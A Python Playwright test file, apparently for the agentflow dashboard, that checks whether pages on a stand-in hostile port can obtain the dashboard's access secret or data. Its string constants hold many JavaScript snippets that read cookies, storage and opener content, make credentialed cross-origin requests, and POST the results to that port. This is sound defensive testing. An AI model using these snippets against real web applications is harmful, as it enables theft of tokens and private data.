"""Access of a real browser: the secret stays with the page, and other ports of the address get nothing."""

import re
from collections.abc import AsyncGenerator, Mapping
from pathlib import Path
from typing import Final

import anyio.to_thread
import pytest
from playwright.async_api import Browser, Page, Request, Route, expect

from agentflow.dashboard import open_view
from agentflow.inspection import open_runs
from tests.agentflow.dashboard._access import use_link
from tests.agentflow.dashboard._chromium import (
    SECRET,
    grown_tree,
    open_chromium,
    open_page,
    path_of_seed,
)
from tests.agentflow.dashboard._hostile_port import HostilePort, hostile_port
from tests.agentflow.dashboard.test_page import PNG

SEED: Final = "Lighthouses of the Varrow Isles"
NO_ACCESS: Final = "This page needs the link that `agentflow view` printed."
NO_STORAGE: Final = (
    "Object.defineProperty(window, 'localStorage', { get() { throw new DOMException('refused') } })"
)
CUT: Final = "event: change\nid: 7\ndata: {}\n\n: still here\n\nevent: change\nid: 8\ndata: {"
"""News of which the last was cut off."""
HELPERS: Final = """
  const take = async (look) => {
    try {
      const got = await look();
      return typeof got === "string" ? got : JSON.stringify(got) ?? "";
    } catch (error) {
      return "";
    }
  };
  const put = (tag, attributes) => new Promise((resolve) => {
    const node = Object.assign(document.createElement(tag), attributes);
    node.onload = node.onerror = () => resolve(node);
    document.body.append(node);
  });
  const tell = (...words) => fetch("/told", { method: "POST", body: words.join(" ") });
  const closed = async (popup) => {
    for (let turn = 0; turn < 200 && !popup.closed; turn++) await new Promise((resolve) => setTimeout(resolve, 10));
    return popup;
  };
"""
LED: Final[Mapping[str, str]] = {
    "address": "location.href = port",
    "link": "Object.assign(document.createElement('a'), { href: port }).click()",
    "redirect of another host": "location.href = elsewhere + '/?to=' + port",
    "redirect of the port": "location.href = port + '/?to=' + port + '/again'",
}
"""Ways in which a tab of the view is led to the port."""
OPENED: Final[Mapping[str, str]] = {
    "link to a new tab": "Object.assign(document.createElement('a'), { href: port, target: '_blank', rel: 'opener' }).click()",
    "window": "open(port, 'view')",
}
"""Ways in which a tab of the view opens one of the port."""
LOOK: Final = """
  await tell(document.cookie, JSON.stringify({ ...localStorage }), JSON.stringify({ ...sessionStorage }), name, document.referrer,
    await take(() => cookieStore.getAll()), await take(() => indexedDB.databases()), await take(() => caches.keys()),
    await take(() => navigation.entries().map((entry) => entry.url)), await take(() => performance.getEntriesByType('navigation')),
    await take(() => opener.location.href), await take(() => opener.document.body.innerText), await take(() => opener.localStorage))
"""
"""All that a page can read of its tab."""
ATTEMPTS: Final[Mapping[str, str]] = {
    "image": "await put('img', { src: port + '/image.png' })",
    "image by a redirect": "await put('img', { src: elsewhere + '/?to=' + port + '/image.png' })",
    "frame": "await put('iframe', { src: port + '/frame' })",
    "form": """
        const form = Object.assign(document.createElement('form'), { method: 'post', action: port + '/form', target: 'posted' });
        const frame = await put('iframe', { name: 'posted' });
        document.body.append(form);
        form.submit();
        await new Promise((resolve) => (frame.onload = resolve))""",
    "beacon": "navigator.sendBeacon(port + '/beacon', 'x'); await tell('beacon')",
    "stylesheet and font": """
        await put('link', { rel: 'stylesheet', href: port + '/style.css' });
        await put('link', { rel: 'preload', as: 'font', crossOrigin: 'use-credentials', href: port + '/font' })""",
    "fetch": """
        for (const path of ['/', ...data]) for (const mode of ['cors', 'no-cors', 'same-origin'])
          await tell(await take(async () => (await fetch(view + path, { mode, credentials: 'include' })).text()))""",
    "fetch with a header": """
        for (const authorization of ['Bearer guess', 'Bearer ', 'Basic eDp4'])
          await tell(await take(async () => (await fetch(view + data[0], { headers: { authorization } })).text()))""",
    "session": """
        for (const mode of ['cors', 'no-cors'])
          await tell(await take(async () => (await fetch(view + '/api/session', { method: 'POST', mode, credentials: 'include' })).text()))""",
    "request": """
        const request = new XMLHttpRequest();
        request.withCredentials = true;
        await tell(await take(() => (request.open('GET', view + data[0], false), request.send(), request.responseText)))""",
    "script": """
        for (const path of ['/static/core.js', '/static/load.js', ...data]) await put('script', { src: view + path });
        await tell(typeof agentflow, await take(() => agentflow.load('runs')), await take(() => agentflow.kept('secret')))""",
    "stylesheet of the view": """
        const { sheet } = await put('link', { rel: 'stylesheet', href: view + '/static/view.css' });
        await tell(await take(() => [...sheet.cssRules].map((rule) => rule.cssText)))""",
    "image of the view": """
        const image = await put('img', { src: view + blob }), canvas = document.createElement('canvas');
        await tell(image.naturalWidth ? 'Lighthouses' : '', await take(() => (canvas.getContext('2d').drawImage(image, 0, 0), canvas.toDataURL())))""",
    "frame of the view": """
        const frame = await put('iframe', { src: view + node, name: 'view' });
        await tell(await take(() => frame.contentDocument.documentElement.outerHTML), await take(() => frame.contentWindow.localStorage),
          await take(() => frame.contentWindow.agentflow.kept('secret')), frame.contentWindow.length)""",
    "object of the view": """
        for (const [tag, attributes] of [['object', { data: view + node }], ['embed', { src: view + node }]]) {
          const made = await put(tag, attributes);
          await tell(await take(() => made.contentDocument.documentElement.outerHTML), await take(() => made.getSVGDocument().URL));
        }""",
    "window of the view": """
        const popup = await closed(open(view + node));
        await tell(await take(() => popup.location.href), await take(() => popup.document.body.innerText), await take(() => popup.localStorage),
          await take(() => popup.name), popup.closed ? '' : 'Lighthouses')""",
    "named window of the view": """
        await closed(open(view + node, 'named'));
        const popup = open('', 'named');
        await tell(await take(() => popup.location.href), await take(() => popup.document.body.innerText), await take(() => popup.sessionStorage))""",
    "window of the view with a guess": """
        await closed(open(view + node + '#token=guess'));
        await closed(open(view + '/?token=guess'))""",
    "form of the view": """
        for (const path of ['/api/session', exported, node]) for (const enctype of ['text/plain', 'application/x-www-form-urlencoded']) {
          const shown = await put('iframe', { name: path + enctype });
          const form = Object.assign(document.createElement('form'), { method: 'post', action: view + path, target: path + enctype, enctype });
          document.body.append(form);
          form.submit();
          await new Promise((resolve) => (shown.onload = resolve));
          await tell(await take(() => shown.contentDocument.documentElement.outerHTML));
        }""",
    "events": """
        for (const withCredentials of [true, false]) await tell(await new Promise((resolve) => {
          const source = new EventSource(view + events, { withCredentials });
          source.onopen = () => resolve('Lighthouses');
          source.onerror = () => (source.close(), resolve(''));
        }))""",
    "web socket": """
        await tell(await new Promise((resolve) => {
          const socket = new WebSocket(view.replace('http', 'ws') + data[0]);
          socket.onmessage = (event) => resolve(event.data);
          socket.onopen = () => resolve('Lighthouses');
          socket.onerror = () => resolve('');
        }))""",
    "worker": """
        const text = data.map((path) => `try { importScripts('${view}${path}') } catch {}`).join(';') + ';postMessage(Object.keys(self).join())';
        const worker = new Worker(URL.createObjectURL(new Blob([text])));
        await tell(await new Promise((resolve) => (worker.onmessage = (event) => resolve(event.data))))""",
    "message": """
        const channel = new BroadcastChannel('agentflow'), popup = open(view + node);
        for (const word of ['secret', 'storage']) popup.postMessage(word, '*'), channel.postMessage(word);
        const got = [];
        channel.onmessage = onmessage = (event) => got.push(event.data);
        await closed(popup);
        await tell(JSON.stringify(got))""",
    "other name of the host": """
        const popup = await closed(open(view.replace('127.0.0.1', 'localhost') + node));
        await tell(await take(() => popup.document.body.innerText))""",
    "service worker": """
        await navigator.serviceWorker.register('/worker.js', { scope: '/' });
        await navigator.serviceWorker.ready;
        if (!navigator.serviceWorker.controller) await new Promise((resolve) => (navigator.serviceWorker.oncontrollerchange = resolve));
        for (const path of ['/', ...data]) await tell(await take(async () => (await fetch(view + path, { credentials: 'include' })).text()));
        await put('iframe', { src: view + node });
        for (const worker of await navigator.serviceWorker.getRegistrations()) await worker.unregister()""",
}
"""Attempts of a page of the port beside a tab of the view."""


@pytest.fixture(scope="module")
async def chromium() -> AsyncGenerator[Browser]:
    async with open_chromium() as browser:
        yield browser


async def try_all(page: Page, hostile: HostilePort, given: Mapping[str, object]) -> dict[str, list[str]]:
    """Make all attempts beside a tab of the view, and return the requests that the port received in each."""
    received = dict[str, list[str]]()
    names = f"const {{ {', '.join(given)} }} = given;"
    tab = await page.context.new_page()
    for name, script in {**LED, **OPENED}.items():
        hostile.requests = received[name] = []
        await tab.goto(page.url, wait_until="commit")
        shown = tab
        if name in LED:
            await tab.evaluate(f"(given) => {{ {names} {script} }}", given)
        else:
            async with page.context.expect_page() as opening:
                await tab.evaluate(f"(given) => {{ {names} {script} }}", given)
            shown = await opening.value
        await shown.wait_for_url(f"{hostile.url}/**")
        await shown.evaluate(f"async () => {{ {HELPERS} {LOOK} }}")
    await tab.goto(hostile.url)
    for name, script in ATTEMPTS.items():
        hostile.requests = received[name] = []
        await tab.evaluate(f"async (given) => {{ {names} {HELPERS} {script} }}", given)
        for opened in page.context.pages[2:]:
            await opened.close()
    await tab.evaluate(f"async () => {{ {HELPERS} {LOOK} }}")
    await tab.close()
    return received


@pytest.mark.promise("view:guard")
async def test_pages_of_another_port_get_neither_the_secret_nor_any_data(
    chromium: Browser, tmp_path: Path
) -> None:
    async with grown_tree(tmp_path / "journal.db", SEED) as tree, hostile_port() as hostile:
        picture = await tree.run.blobs.put(PNG, "image/png")
        await tree.grow("0", "It is 42 metres high.", blobs=[picture])
        with open_runs(tmp_path / "journal.db") as runs:
            run, node = f"/api/r/{runs.runs()[0].id}", f"{path_of_seed(runs)}?spot=0"
            async with open_view(runs) as view, open_page(chromium, view, node) as page:
                secret: object = await page.evaluate(f"localStorage['{SECRET}']")
                marks = (
                    str(secret),
                    view.link().rpartition("=")[2],
                    SEED,
                    "Lighthouses",
                    "42 metres",
                    "cookie: ",
                    "authorization: ",
                    f"referer: {view.url}",
                )
                given = {
                    "view": view.url,
                    "port": hostile.url,
                    "elsewhere": hostile.url.replace("127.0.0.1", "localhost"),
                    "node": node,
                    "blob": f"{run}/blob/{picture.hash}",
                    "events": f"{run}/events",
                    "exported": f"{run}/export",
                    "data": ["/api/runs", run, f"{run}/seeds", f"{run}/s/seed_001/skeleton"],
                }
                received = await try_all(page, hostile, given)
                gained = {
                    name: found
                    for name, requests in received.items()
                    if (found := [mark for mark in marks if any(mark in request for request in requests)])
                }
                assert gained == {}
                assert len(received) == len(LED) + len(OPENED) + len(ATTEMPTS) >= 30
                assert await page.context.cookies() == []
                # The tab of the view works as before.
                await page.reload()
                await expect(page.get_by_role("article", name="Node 0")).to_contain_text("42 metres")


@pytest.mark.promise("view:guard")
async def test_the_secret_leaves_the_address_and_serves_reloads_tabs_and_bookmarks(
    chromium: Browser, tmp_path: Path
) -> None:
    async with grown_tree(tmp_path / "journal.db", SEED) as tree:
        await tree.grow("0", "It is 42 metres high.", blobs=[await tree.run.blobs.put(PNG, "image/png")])
        with open_runs(tmp_path / "journal.db") as runs:
            node = f"{path_of_seed(runs)}?spot=0"
            async with open_view(runs) as view, open_page(chromium, view, node) as page:
                requests: list[Request] = []
                page.context.on("request", lambda request: requests.append(request))
                secret: object = await page.evaluate(f"localStorage['{SECRET}']")
                tab = await page.context.new_page()
                for visit in (page.reload(), tab.goto(f"{view.url}{node}"), tab.reload()):
                    await visit
                for shown in (page, tab):
                    article = shown.get_by_role("article", name="Node 0")
                    await expect(article).to_contain_text("42 metres")
                    await expect(article.get_by_role("img")).to_have_js_property("naturalWidth", 1)
                    assert shown.url == f"{view.url}{node}"
                for request in requests:
                    headers = await request.all_headers()
                    assert str(secret) not in request.url
                    assert "cookie" not in headers
                    is_data = request.url.startswith(f"{view.url}/api/")
                    assert headers.get("authorization") == (f"Bearer {secret}" if is_data else None)


@pytest.mark.promise("view:guard")
async def test_a_page_without_the_secret_is_one_line_until_it_gets_a_link(
    chromium: Browser, tmp_path: Path
) -> None:
    async with grown_tree(tmp_path / "journal.db", SEED) as tree:
        await tree.grow("0", "It is 42 metres high.")
        with open_runs(tmp_path / "journal.db") as runs:
            node = f"{path_of_seed(runs)}?spot=0"
            async with open_view(runs) as view:
                used = view.link(node)
                await anyio.to_thread.run_sync(use_link, used)
                context = await chromium.new_context()
                page = await context.new_page()
                for address in (view.url, f"{view.url}/compare?a=x&b=y", used):
                    await page.goto(address)
                    await expect(page.get_by_role("main")).to_have_text(re.compile(f"^{NO_ACCESS}.*$"))
                assert page.url == f"{view.url}{node}"
                # The address of the open page with another end: the browser does not load it again.
                for address in (view.link(node), used):
                    await page.goto(address)
                    await expect(page.get_by_role("article", name="Node 0")).to_contain_text("42 metres")
                    assert page.url == f"{view.url}{node}"
                # A browser that stores nothing shows the page until it is loaded again.
                await context.add_init_script(NO_STORAGE)
                page = await context.new_page()
                await page.goto(view.link(node))
                await expect(page.get_by_role("article", name="Node 0")).to_contain_text("42 metres")
                await context.close()


@pytest.mark.promise("view:live")
async def test_a_page_that_lost_its_connection_continues_with_the_secret_at_the_last_news(
    chromium: Browser, tmp_path: Path
) -> None:
    async def answer(route: Route) -> None:
        await route.fulfill(content_type="text/event-stream", body=CUT)

    async with grown_tree(tmp_path / "journal.db", SEED):
        with open_runs(tmp_path / "journal.db") as runs:
            async with open_view(runs) as view, open_page(chromium, view, path_of_seed(runs)) as page:
                await page.clock.install()
                await page.route("**/events*", answer)
                async with page.expect_request("**/events*") as first:
                    await page.reload()
                assert (await first.value).headers.get("last-event-id") is None
                await expect(page.locator(".live[data-state=lost]")).to_be_visible()
                async with page.expect_request("**/events*") as second:
                    await page.clock.fast_forward(3000)
                headers = (await second.value).headers
                secret: object = await page.evaluate(f"localStorage['{SECRET}']")
                assert headers["last-event-id"] == "7"
                assert headers["authorization"] == f"Bearer {secret}"
